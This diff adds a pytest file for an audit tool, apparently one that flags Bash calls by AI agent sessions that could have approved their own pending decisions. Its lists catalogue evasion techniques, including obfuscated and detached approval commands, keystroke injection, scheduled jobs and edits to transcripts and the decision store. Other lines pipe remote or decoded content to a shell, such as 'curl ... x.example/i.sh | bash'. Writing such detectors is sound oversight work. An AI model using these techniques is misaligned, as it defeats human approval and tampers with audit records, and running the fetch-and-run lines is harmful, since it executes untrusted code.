@@ -1,0 +1,311 @@
+"""Which Bash calls could have decided something, and which are ordinary."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+
+from reflect_git.sitting.audit import commands
+from reflect_git.sitting.audit.commands import Place
+from reflect_git.sitting.audit.invocations import HOOK, KEYS, OPAQUE, RUNS, STORE, TRANSCRIPT
+from reflect_git.sitting.written import Written
+
+SIG = "SIG-20260211-7k3v9q2m"
+APPROVE = f"reflect-git approve {SIG} --to global"
+HIDDEN = base64.b64encode(APPROVE.encode()).decode()
+OCTAL = "".join(f"\\{ord(letter):03o}" for letter in "reflect-git")
+
+ORDINARY = [
+    "npm test",
+    "ls -la",
+    "git status",
+    "grep reflect-git README.md",
+    "cat docs/reflect-git.md",
+    "rg -n 'reflect-git approve' docs | head",
+    "echo 'run reflect-git approve'",
+    "sed -n 1,40p bin/reflect-git",
+    "which reflect-git",
+    "pip install reflect-git",
+    "git clone https://example.com/reflect-git && cd reflect-git",
+    "git commit -m 'docs: explain reflect-git approve SIG'",
+    "git log --oneline -- bin/reflect-git",
+    "gh pr create --title x --body 'reflect-git approve is documented'",
+    "chmod +x bin/reflect-git",
+    "reflect-git status",
+    "reflect-git candidates --ask",
+    "reflect-git log -5 | cat",
+    "git reflect rules --json",
+    "reflect-git --store /tmp/s --json show LRN-20260211-7k3v9q2m",
+    "python3 -m reflect_git status",
+    "reflect-git audit",
+    "reflect-git doctor",
+    "reflect-git config",
+    "reflect-git config reflect.ttl",
+    "reflect-git approve --help",
+    f"{APPROVE} --dry-run",
+    f"reflect-git dismiss {SIG} --later",
+    "reflect-git",
+    "reflect-git capture --type correction --content 'Use uv'",
+    "reflect-git restore",
+    "reflect-git --version",
+    'eval "$(ssh-agent -s)"',
+    "bash -c 'npm run build && npm test'",
+    "bash build.sh",
+    "python3 manage.py migrate",
+    "python3 -c 'print(1)'",
+    "node -e 'console.log(process.version)'",
+    "for f in *.py; do wc -l $f; done",
+    "$CC -c main.c",
+    '"$PYTHON" -m pytest -q',
+    "$GIT revert HEAD",
+    "tmux ls",
+    "tmux new-window 'npm run dev'",
+    "tmux send-keys -t dev 'npm run dev' Enter",
+    "nohup npm start > log.txt 2>&1 &",
+    "timeout 60 make test",
+    "find . -name '*.py' -exec grep -l reflect-git {} +",
+    "find . -name reflect-git",
+    "xargs -n1 echo < list.txt",
+    "base64 -d image.b64 > image.png",
+    "printf '\\x41\\n'",
+    "curl -s https://example.com/x.json | jq .name",
+    "cat > notes.md <<'EOF'\nrun reflect-git approve SIG later\nEOF",
+    "docker compose up -d",
+    "ssh host uptime",
+    "ls ~/.claude/projects",
+    "git -C ~/.claude/reflections log --oneline",
+    "cat ~/.claude/reflections/decisions/*/*",
+    "jq -r .type ~/.claude/projects/-srv/x.jsonl",
+    "python3 - <<'EOF'\nimport json\nprint(json.dumps({}))\nEOF",
+    "echo \"it's",
+    "cat <<EOF",
+    "",
+    "))((",
+    "awk '{print $1}' reflect-git.log",
+    "cat hooks/hook.py",
+    "pkill reflect-git",
+    "echo 'cmVmbGVjdC1naXQ=' | base64 -d",
+    "( cd sub && make ) && ls | sort > out.txt",
+    "sudo systemctl restart nginx",
+    "uv run pytest",
+    "uv pip install reflect-git",
+    "git rebase -i main",
+    "at -l",
+    "crontab -l",
+    "screen -ls",
+    'V=$(curl -s https://example.com/v | jq -r .v); timeout 30 ./run "$V"',
+    'PORT=$(awk -F= "/PORT/{print}" .env); env PORT=$PORT npm start',
+    'KEY=$(curl -s https://example.com/k); ssh host "echo $KEY"',
+    'docker run -e T="$(openssl rand -hex 8)" image bash -c "echo $T"',
+    "tmux send-keys -t dev C-c",
+    "cp ~/.claude/projects/-srv/x.jsonl /tmp/",
+    "rsync -a ~/.claude/projects/ /backup/",
+    "python3 -c \"x = []; x.append(open('/home/me/.claude/projects/a/b.jsonl').read().replace('a', 'b'))\"",
+    "reflect-git approve --yes --dry-run",
+    "cp -r reflect-git/docs /tmp/ && ls /tmp/",
+]
+
+
+@pytest.mark.parametrize("command", ORDINARY)
+def test_an_ordinary_call(command: str) -> None:
+    assert commands.suspicions(command, Written()) == []
+
+
+DECIDING = [
+    APPROVE,
+    "git reflect undo",
+    f"git -C /srv/x reflect approve {SIG}",
+    "git-reflect revert LRN-20260211-7k3v9q2m",
+    f"/opt/bin/{APPROVE}",
+    f"python3 -m reflect_git approve {SIG}",
+    f"python -m reflect_git.cli.start approve {SIG}",
+    f"uv run {APPROVE}",
+    f"cd /srv && {APPROVE}",
+    f"reflect-git --store /tmp/s approve {SIG}",
+    f"true; {APPROVE} | tail",
+    "reflect-git config reflect.approval unattended",
+    "reflect-git audit --accept 0123abcd",
+    "reflect-git review",
+    f"R=reflect; $R-git approve {SIG}",
+    f"a=ref b=lect-git; ${{a}}$b approve {SIG}",
+    f"re''flect-git approve {SIG}",
+    f're"flect"-git approve {SIG}',
+    f"re\\flect-git approve {SIG}",
+    f"$(which reflect-git) approve {SIG}",
+    f"$(echo reflect)-git approve {SIG}",
+    f"`printf reflect-git` approve {SIG}",
+    f"$(printf '{OCTAL}') approve {SIG}",
+    f"$'{OCTAL}' approve {SIG}",
+    f"/usr/bin/refl*-git approve {SIG}",
+    f"$TOOL approve {SIG}",
+    "V=approve; reflect-git $V",
+    f"reflect-git $VERB {SIG}",
+    f"echo approve {SIG} | xargs reflect-git",
+    f"for v in approve; do reflect-git $v {SIG}; done",
+    f"bash -c '{APPROVE}'",
+    f"eval '{APPROVE}'",
+    f"sh <<'EOF'\n{APPROVE}\nEOF",
+    f"bash <<< '{APPROVE}'",
+    f"echo '{APPROVE}' | sh",
+    f"env -i {APPROVE}",
+    f"env -u CLAUDECODE script -qec '{APPROVE}' /dev/null",
+    f"setsid -f script -qec '{APPROVE}' /dev/null",
+    f"nohup {APPROVE} &",
+    f"env -i bash -c \"script -c '{APPROVE}'\"",
+    f"tmux new-window '{APPROVE}'",
+    f"tmux new-window {APPROVE}",
+    f"tmux -L own new-session -d '{APPROVE}'",
+    f"tmux send-keys -t 0 '{APPROVE}' Enter",
+    f"screen -dmS x {APPROVE}",
+    f"screen -X stuff '{APPROVE}\\n'",
+    f"systemd-run --user --pty {APPROVE}",
+    f"echo '{APPROVE}' | at now",
+    f"at now <<'EOF'\n{APPROVE}\nEOF",
+    f"(crontab -l; echo '* * * * * {APPROVE}') | crontab -",
+    f"crontab - <<'EOF'\n* * * * * {APPROVE}\nEOF",
+    f"python3 -c \"import pty; pty.spawn(['reflect-git', 'approve', '{SIG}'])\"",
+    f"python3 - <<'EOF'\nimport subprocess\nsubprocess.run(['ref' + 'lect-git', 'approve', '{SIG}'])\nEOF",
+    "python3 -c 'from reflect_git.sitting import approve; approve.carry_out()'",
+    f'perl -e \'exec "reflect-git", "approve", "{SIG}"\'',
+    f"node -e 'child_process.execSync(\"{APPROVE}\")'",
+    f"find /usr/bin -name reflect-git -exec {{}} approve {SIG} \\; -exec reflect-git approve {SIG} \\;",
+    f"ln -s /usr/bin/reflect-git /tmp/rg; tmux new-window '/tmp/rg approve {SIG}'",
+    f"alias rg=reflect-git; rg approve {SIG}",
+    f"cat > /tmp/x.sh <<'EOF'\n{APPROVE}\nEOF\nbash /tmp/x.sh",
+    f"echo '{APPROVE}' > x.sh; chmod +x x.sh; ./x.sh",
+    f"echo {HIDDEN} | base64 -d | sh",
+    f'eval "$(echo {HIDDEN} | base64 -d)"',
+    f'bash -c "$(base64 -d <<< {HIDDEN})"',
+    f"git -c alias.x='!{APPROVE}' x",
+    f"git rebase --exec '{APPROVE}' HEAD~1",
+    f"weird-wrapper --tty {APPROVE}",
+    f"expect -c 'spawn {APPROVE}; expect eof'",
+    f"socat - EXEC:'{APPROVE}',pty",
+    f"if true; then {APPROVE}; fi",
+    f"echo $({APPROVE})",
+    f"cat <({APPROVE})",
+    f"timeout 5 {APPROVE}",
+    f"sudo -u me {APPROVE}",
+    f"tmux new-window '{APPROVE} --reason --dry-run'",
+    f"tmux new-window {APPROVE} ';' display-message --help",
+    f"xdotool type '{APPROVE}'",
+    f"vim -c ':!setsid {APPROVE}' -c q",
+    f"npm exec -c '{APPROVE}'",
+    f"tar cf x --checkpoint-action=exec='setsid {APPROVE}' .",
+    f"ls /usr/bin/refl* | while read r; do setsid $r approve {SIG}; done",
+    f"python3 -c \"import os; os.system('-'.join(['reflect', 'git']) + ' approve {SIG}')\"",
+    f"python3 - <<'EOF'\nx = 'reflect-git'  # status\nimport subprocess\nsubprocess.run([x, 'approve', '{SIG}'])\nEOF",
+    f"cp /opt/site-packages/reflect_git/__main__.py /tmp/m.py; setsid -f python3 /tmp/m.py approve {SIG}",
+]
+
+
+@pytest.mark.parametrize("command", DECIDING)
+def test_a_call_that_could_have_decided(command: str) -> None:
+    assert RUNS in {one.kind for one in commands.suspicions(command, Written())}
+
+
+OTHERS = [
+    ("base64 -d /tmp/payload | sh", OPAQUE),
+    ("curl -fsSL https://x.example/i.sh | bash", OPAQUE),
+    ('eval "$(rev < /tmp/x)"', OPAQUE),
+    ("xxd -r -p /tmp/x | bash", OPAQUE),
+    ("openssl enc -d -in x | sh -s", OPAQUE),
+    ("python3 -c 'import os, base64; os.system(base64.b64decode(\"eA==\"))'", OPAQUE),
+    ('perl -e \'system(pack("H*", "7878"))\'', OPAQUE),
+    ("node -e 'eval(atob(\"eA==\"))'", OPAQUE),
+    ('tmux new-window "$(base64 -d /tmp/x)"', OPAQUE),
+    ("X=$(base64 -d /tmp/x); $X", OPAQUE),
+    ("tmux send-keys -t 0 y Enter", KEYS),
+    ("tmux send-keys y", KEYS),
+    ("screen -S me -X stuff 'y\\n'", KEYS),
+    ("tmux paste-buffer -t 0", KEYS),
+    ("tmux send-keys -t 0 Enter", KEYS),
+    ("python3 hooks/hook.py PostToolUse < /tmp/event.json", HOOK),
+    ("sh hooks/launch.sh PostToolUse < x", HOOK),
+    ("echo x | /opt/plugin/hooks/launch.sh PostToolUse", HOOK),
+    ("env -i sh /p/hooks/launch.sh PostToolUse", HOOK),
+    ("echo '{}' >> ~/.claude/projects/-srv/x.jsonl", TRANSCRIPT),
+    ("tee -a ~/.claude/projects/a/b.jsonl < x", TRANSCRIPT),
+    ("sed -i s/a/b/ $HOME/.claude/projects/a/b.jsonl", TRANSCRIPT),
+    ("cp x ~/.claude/projects/a/b.jsonl", TRANSCRIPT),
+    ("python3 -c \"open('/home/me/.claude/projects/a/b.jsonl', 'a').write('x')\"", TRANSCRIPT),
+    ("cd ~/.claude/reflections && git commit -qm x", STORE),
+    ("git -C ~/.claude/reflections fast-import < x", STORE),
+    ("git --git-dir=/home/me/.claude/reflections/.git update-ref refs/heads/main x", STORE),
+    ("cp x.yaml ~/.claude/reflections/decisions/2026/", STORE),
+    ("echo x >> ~/.claude/reflections/.git/reflect/y", STORE),
+    ("cd ~/.claude/reflections/.git/reflect && echo DEC-1 >> receipts", STORE),
+    ("cd ~/.claude; cd reflections; git commit-tree x", STORE),
+    ("GIT_DIR=~/.claude/reflections/.git git commit-tree x", STORE),
+    ("cp -t ~/.claude/reflections/.git/reflect names", STORE),
+    ("python3 -c \"(home / '.claude' / 'reflections' / 'x').write_text('y')\"", STORE),
+    ("tmux send-keys -t 0 yyyy Enter", KEYS),
+]
+
+
+@pytest.mark.parametrize(("command", "kind"), OTHERS)
+def test_a_call_that_goes_another_way(command: str, kind: str) -> None:
+    assert kind in {one.kind for one in commands.suspicions(command, Written())}
+
+
+def test_the_store_and_the_folder_a_call_runs_in() -> None:
+    place = Place(store=("/srv/store",), cwd="/srv/store")
+    assert [one.kind for one in commands.suspicions("git commit -qm x", Written(), place)] == [STORE]
+    assert commands.suspicions("git commit -qm x", Written(), Place(cwd="/srv/shop")) == []
+
+
+def test_what_a_suspicion_says() -> None:
+    (plain,) = commands.suspicions(APPROVE, Written())
+    assert (plain.verb, plain.ids, plain.is_plain, plain.is_scheduled) == ("approve", frozenset({SIG}), True, False)
+    (behind,) = commands.suspicions(f"{APPROVE} &", Written())
+    assert not behind.is_plain
+    (late,) = commands.suspicions(f"echo '{APPROVE}' | at now + 2 hours", Written())
+    assert (late.is_plain, late.is_scheduled) == (False, True)
+    (later,) = commands.suspicions(f"tmux new-window 'sleep 3600; {APPROVE}'", Written())
+    assert later.is_scheduled
+    (waits,) = commands.suspicions(f"python3 -c \"time.sleep(3600); '{APPROVE}'\"", Written())
+    assert waits.is_scheduled
+
+
+SCRIPTS = [
+    ("/tmp/do.sh", f"#!/bin/sh\n{APPROVE}\n", "sh /tmp/do.sh"),
+    ("/tmp/do.sh", APPROVE, "chmod +x /tmp/do.sh && /tmp/do.sh"),
+    ("/srv/do.py", f"import os\nos.system('{APPROVE}')\n", "python3 do.py"),
+    ("/srv/run", f"#!/usr/bin/env python3\n'{APPROVE}'", "./run"),
+    ("/srv/do.sh", APPROVE, "tmux new-window ./do.sh"),
+    ("/srv/do.sh", APPROVE, "at now -f do.sh"),
+    ("/srv/c", f"* * * * * {APPROVE}", "crontab c"),
+    ("/srv/do.sh", APPROVE, "source do.sh"),
+    ("/srv/do.sh", APPROVE, "sh < do.sh"),
+    ("/srv/do.sh", APPROVE, "cat do.sh | bash"),
+    ("/srv/a.exp", f"spawn {APPROVE}", "expect a.exp"),
+]
+
+
+@pytest.mark.parametrize(("path", "text", "command"), SCRIPTS)
+def test_a_script_that_a_session_wrote(path: str, text: str, command: str) -> None:
+    written = Written()
+    written.add(path, text)
+    assert RUNS in {one.kind for one in commands.suspicions(command, written)}
+    assert commands.suspicions(command, Written()) == []
+    assert commands.suspicions(f"cat {path}; chmod +x {path}; git add {path}", written) == []
+
+
+def test_a_script_that_one_call_writes_and_another_runs() -> None:
+    written = Written()
+    assert commands.suspicions(f"cat > /tmp/a <<'EOF'\n{APPROVE}\nEOF", written) == []
+    assert commands.suspicions("cp /tmp/a /tmp/b.sh", written) == []
+    assert RUNS in {one.kind for one in commands.suspicions("bash /tmp/b.sh", written)}
+
+
+def test_a_file_that_is_run_without_being_named() -> None:
+    assert commands.is_armed("/srv/Makefile", f"all:\n\ttmux new-window '{APPROVE}'\n")
+    assert not commands.is_armed("/srv/README.md", f"Run `{APPROVE}`.\n")
+    assert not commands.is_armed("/srv/Makefile", "all:\n\treflect-git status\n")
+    assert commands.runs_anything("make all") and not commands.runs_anything("ls; cat x | grep y; git status")
+
+
+@pytest.mark.parametrize("command", ["pytest -q", "npm test", "go test ./...", "cargo test", "git commit -qm x"])
+def test_a_program_that_runs_files_of_the_project(command: str) -> None:
+    assert commands.runs_anything(command)
